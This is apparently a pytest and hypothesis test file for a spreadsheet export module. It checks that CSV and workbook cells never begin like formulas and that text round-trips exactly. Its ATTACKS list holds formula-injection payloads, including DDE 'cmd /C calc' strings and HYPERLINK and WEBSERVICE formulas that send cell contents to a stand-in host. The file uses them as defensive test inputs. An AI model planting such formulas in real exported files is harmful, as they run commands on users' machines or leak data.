"""Nothing that leaves runs as a formula, and everything that comes back is what was written."""

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from casework.core.rows import Sheet
from casework.exchange.files import csv_files, workbook
from casework.exchange.inert import CELL, as_written, for_xml, from_xml, inert, pieces
from casework.exchange.leaving import SheetOut

STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    '=WEBSERVICE("http://example.invalid/"&A1)',
    '=IMPORTXML("http://example.invalid","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    ";=1+1",
    '"=1+1"',
    "- a list that begins with a dash",
    "+49 30 1234567",
)
ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=40)
TRICKY = st.text(st.sampled_from("'=+-@ \t\r\n＝＋－＠ab_x005F\ufeff"), max_size=12)


def sheet(*cells: str) -> SheetOut:
    return SheetOut(Sheet.WINS, ("win",), tuple((cell,) for cell in cells))


def runs(cell: str) -> bool:
    """Whether a spreadsheet program would take this for a formula."""
    return cell.lstrip(" \n\u00a0\ufeff\u200b").startswith(STARTS) or cell.startswith(("\t", "\r"))


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_of_a_csv_file_begins_like_a_formula(text: str) -> None:
    content = csv_files([sheet(text)])["wins.csv"].decode("utf-8-sig")
    (_, (cell,)) = csv.reader(io.StringIO(content, newline=""))
    assert not runs(cell)
    assert as_written(cell) == text


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_of_a_workbook_is_a_formula(text: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook([sheet(text)])))
    cell = book["wins"]["A2"]
    assert cell.data_type in ("s", "inlineStr")
    assert not runs(cell.value)
    assert as_written(from_xml(cell.value)) == text


@given(ANY_TEXT | TRICKY)
def test_the_apostrophe_is_taken_away_exactly_where_it_was_given(text: str) -> None:
    assert as_written(inert(text)) == text
    assert not runs(inert(text))


@given(st.text(max_size=30) | TRICKY)
def test_signs_that_a_workbook_cannot_hold_come_back(text: str) -> None:
    assert from_xml(for_xml(text)) == text


@pytest.mark.parametrize(
    "text", ["x" * (CELL + 1), "=" * 100_000, "\U0001f33f" * 40_000, "\x07" * 33_000, "é"]
)
def test_a_long_text_takes_as_many_cells_as_it_needs(text: str) -> None:
    cells = list(pieces(text))
    assert all(len(cell.encode("utf-16-le")) // 2 <= CELL for cell in cells)
    assert "".join(as_written(from_xml(cell)) for cell in cells) == text


def test_half_a_pair_in_a_workbook_stays_the_text_it_is_written_as() -> None:
    assert from_xml("_xD800_ _xdfff_ _x0041_") == "_xD800_ _xdfff_ A"


def test_numbers_stay_numbers() -> None:
    table = SheetOut(Sheet.READINGS, ("value",), ((-2.5,), (7,)))
    assert csv_files([table])["readings.csv"].decode("utf-8-sig").split() == ['"value"', "-2.5", "7"]
    assert openpyxl.load_workbook(io.BytesIO(workbook([table])))["readings"]["A2"].value == -2.5
